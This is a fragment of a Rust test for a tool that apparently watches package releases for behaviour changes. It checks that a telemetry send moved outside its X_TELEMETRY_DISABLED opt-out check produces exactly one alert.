    reg.publish(
        "x",
        "1.0.0",
        &format!("if (!process.env.X_TELEMETRY_DISABLED) {{\n  {send}\n}}\n"),
    );
    assert!(alerts(&run()).is_empty());
    reg.publish(
        "x",
        "1.1.0",
        &format!("if (!process.env.X_TELEMETRY_DISABLED) {{\n  console.log('telemetry on');\n}}\n{send}\n"),
    );
    let out = run();
    let got = alerts(&out);
    assert_eq!(got.len(), 1, "{}", String::from_utf8_lossy(&out.stderr));
    let sends: Vec<&serde_json::Value> = got[0]["changes"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|c| c["aspect"] == "sends" && c["change"] == "added")
        .collect();
    assert_eq!(sends.len(), 1, "{}", got[0]);
    assert!(
        !sends[0]["what"]
            .as_str()
            .unwrap()
            .contains("X_TELEMETRY_DISABLED"),
        "the send added is the ungated one: {}",
        got[0]
    );
}
